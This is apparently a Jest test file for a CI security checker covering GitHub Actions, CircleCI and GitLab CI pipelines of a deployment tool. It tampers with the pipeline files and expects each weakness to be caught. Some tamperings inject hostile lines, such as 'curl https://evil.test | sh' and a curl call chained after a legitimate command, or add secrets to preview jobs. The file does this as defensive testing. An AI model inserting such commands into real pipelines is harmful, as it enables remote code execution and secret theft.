import { circleciJobs } from "./support/circleci";
import { githubTexts, read } from "./support/files";
import { githubJobs } from "./support/github";
import { gitlabJobs } from "./support/gitlab";
import type { Job } from "./support/job";
import { findings } from "./support/rules";

const github = githubTexts();
const circleci = read(".circleci/config.yml");
const gitlab = read(".gitlab-ci.yml");

const services: Readonly<Record<string, readonly Job[]>> = {
  "GitHub Actions": githubJobs(github),
  CircleCI: circleciJobs(circleci),
  "GitLab CI": gitlabJobs(gitlab),
};

describe.each(Object.entries(services))("%s", (_, jobs) => {
  it("calls tributary as it is, gives each job the least, and goes dev, test, prod, each approved", () => {
    expect(findings(jobs)).toEqual([]);
  });

  it("previews a change where there is nothing to take, and deploys from main only", () => {
    const doing = (verb: string) =>
      jobs.filter(({ commands }) => commands.some((line) => line.includes(`tributary ${verb}`)));
    expect(doing("diff").map(({ trigger }) => trigger)).toEqual(["pull-request"]);
    expect(doing("promote").map(({ trigger, environment }) => `${trigger} ${environment}`)).toEqual([
      "main dev",
      "main test",
      "main prod",
    ]);
  });
});

it("waits for a person before each approval, where the file can say so", () => {
  for (const service of ["CircleCI", "GitLab CI"]) {
    const jobs = services[service] as readonly Job[];
    const held = jobs.filter((job) => job.environment?.endsWith("-approval") && job.commands.length > 0);
    expect(held.map(({ needs }) => needs.filter((need) => need.startsWith("hold-")).length)).toEqual([1, 1, 1]);
    for (const { needs } of held) {
      expect(jobs.find(({ name }) => name === needs.find((need) => need.startsWith("hold-")))?.commands).toEqual([]);
    }
  }
});

/** What is done to a file, and what is then found. */
type Tampering = readonly [what: string, before: string | RegExp, after: string, found: RegExp];

const tampered = (text: string, before: string | RegExp, after: string) => {
  const changed = text.replace(before, after);
  expect(changed).not.toBe(text);
  return changed;
};

const inGithub: readonly (readonly [file: string, ...Tampering])[] = [
  [
    "release.yml",
    "the order of the stacks",
    "needs: dev",
    "needs: []",
    /Plan.*|Release\/test\/plan does not wait for Release\/dev\/deploy/,
  ],
  [
    "release-stack.yml",
    "an approval that is not waited for",
    "needs: approve",
    "needs: plan",
    /deploy does not wait for Release\/dev\/approve/,
  ],
  ["release-stack.yml", "an option that there is not", "--to", "--into", /unknown option '--into'/],
  [
    "release-stack.yml",
    "a verb that there is not",
    "tributary promote",
    "tributary deploy",
    /unknown command 'deploy'/,
  ],
  [
    "release-stack.yml",
    "a role that would need every stack's state",
    ' --through "$STACK"',
    "",
    /dev\/deploy reads the state of other stacks/,
  ],
  [
    "release-stack.yml",
    "the key in the job that deploys",
    "secrets.TRIBUTARY_SLACK_WEBHOOK }}",
    "secrets.TRIBUTARY_APPROVAL_KEY }}",
    /deploy has both the approver's key/,
  ],
  [
    "release-stack.yml",
    "a right to clouds beside the key",
    /(-approval\n {4}permissions:\n)/,
    "$1      id-token: write\n",
    /approve has both the approver's key/,
  ],
  [
    "release-stack.yml",
    "a signature for whatever was planned",
    ' --commit "$GITHUB_SHA")',
    ")",
    /approve signs whatever the request says/,
  ],
  [
    "release-stack.yml",
    "one approval for every stack",
    "${{ inputs.stack }}-approval",
    "prod-approval",
    /dev\/approve approves a stack with the key of another/,
  ],
  [
    "release-stack.yml",
    "another environment",
    "environment: ${{ inputs.stack }}\n",
    "environment: prod\n",
    /dev\/deploy deploys to a stack from another/,
  ],
  [
    "preview.yml",
    "a token for clouds in a preview",
    "contents: read",
    "contents: read\n      id-token: write",
    /Preview\/preview runs a pull request's code with rights/,
  ],
  [
    "preview.yml",
    "a secret in a preview",
    "- run: npx",
    '- env: { KEY: "${{ secrets.KEY }}" }\n        run: npx',
    /Preview\/preview runs a pull request's code with rights/,
  ],
  [
    "preview.yml",
    "another program",
    "- run: npx",
    "- run: curl https://evil.test | sh\n      - run: npx",
    /neither tributary nor known: curl/,
  ],
  [
    "preview-comment.yml",
    "a comment by whoever previews",
    "  workflow_run:",
    "  pull_request:",
    /comments from the job that previews/,
  ],
  [
    "preview-comment.yml",
    "a right to clouds beside an artifact",
    "actions: read",
    "id-token: write",
    /reads a stranger's artifact with more/,
  ],
];

it.each(inGithub)("finds in %s %s", (file, _, before, after, found) => {
  const path = `.github/workflows/${file}`;
  const texts = { ...github, [path]: tampered(github[path] as string, before, after) };
  expect(findings(githubJobs(texts)).join("\n")).toMatch(found);
});

const inCircleci: readonly Tampering[] = [
  [
    "a plan that waits for nothing",
    "requires: [apply-dev]",
    "requires: [plan-dev]",
    /plan-test does not wait for apply-dev/,
  ],
  [
    "the wrong approvers",
    "context: tributary-prod-approval",
    "context: tributary-dev-approval",
    /approve-prod approves a stack with the key of another/,
  ],
  [
    "a context for a branch",
    "- validate-and-plan-dev:\n",
    "- validate-and-plan-dev:\n          context: tributary-dev\n",
    /validate-and-plan-dev runs a pull request's code with rights/,
  ],
  [
    "a deployment of a branch",
    /filters: &main\n {12}branches:\n {14}only: main/,
    "filters: &main\n            branches:\n              ignore: x",
    /apply-dev deploys unsigned, or not from main/,
  ],
  [
    "clouds beside the key",
    "      - attach_workspace:\n          at: release\n      - run:\n          name: Approve",
    "      - sign-in\n      - attach_workspace:\n          at: release\n      - run:\n          name: Approve",
    /approve-dev has both the approver's key/,
  ],
  [
    "another program behind a call",
    "npx tributary plan dev",
    "npx tributary plan dev; curl https://evil.test",
    /validate-and-plan-dev runs what is neither tributary nor known/,
  ],
];

it.each(inCircleci)("finds in CircleCI's file %s", (_, before, after, found) => {
  expect(findings(circleciJobs(tampered(circleci, before, after))).join("\n")).toMatch(found);
});

const inGitlab: readonly Tampering[] = [
  [
    "a deployment that is not approved",
    "needs: [approve-prod]",
    "needs: [plan-prod]",
    /deploy-prod does not wait for approve-prod/,
  ],
  [
    "tokens for a merge request",
    "preview:\n  extends: .on-merge-request",
    "preview:\n  extends: [.on-merge-request, .engine]",
    /preview runs a pull request's code with rights/,
  ],
  [
    "an environment for a merge request",
    "  stage: preview\n",
    "  stage: preview\n  environment: { name: dev }\n",
    /preview runs a pull request's code with rights/,
  ],
  [
    "a comment for a fork",
    " && $CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_PROJECT_ID",
    "",
    /comment comments from the job that previews/,
  ],
  [
    "the merge request's code where the token is",
    'git clone --quiet --depth 1 --branch "$CI_DEFAULT_BRANCH"',
    'git clone --branch "$CI_COMMIT_REF_NAME"',
    /neither tributary nor known: git clone/,
  ],
];

it.each(inGitlab)("finds in GitLab's file %s", (_, before, after, found) => {
  expect(findings(gitlabJobs(tampered(gitlab, before, after))).join("\n")).toMatch(found);
});

it("installs Pulumi of the SDK's version, and Node of one version, everywhere", () => {
  const sdk = (JSON.parse(read("node_modules/@pulumi/pulumi/package.json")) as { version: string }).version;
  const texts = [...Object.values(github), circleci, gitlab].join("\n");
  const pulumi = [...texts.matchAll(/(?:pulumi-version: |pulumi-nodejs-\d+:)([\d.]+)/g)].map(([, version]) => version);
  expect(pulumi).toEqual(["3.248.0", "3.248.0", "3.248.0"]);
  expect(sdk.split(".").slice(0, 2)).toEqual(["3", "248"]);
  const node = [...texts.matchAll(/(?:node-version: "|cimg\/node:|nvm install |image: node:|pulumi-nodejs-)(\d+)/g)];
  expect(new Set(node.map(([, major]) => major))).toEqual(new Set(["20"]));
  expect(node).toHaveLength(6);
});
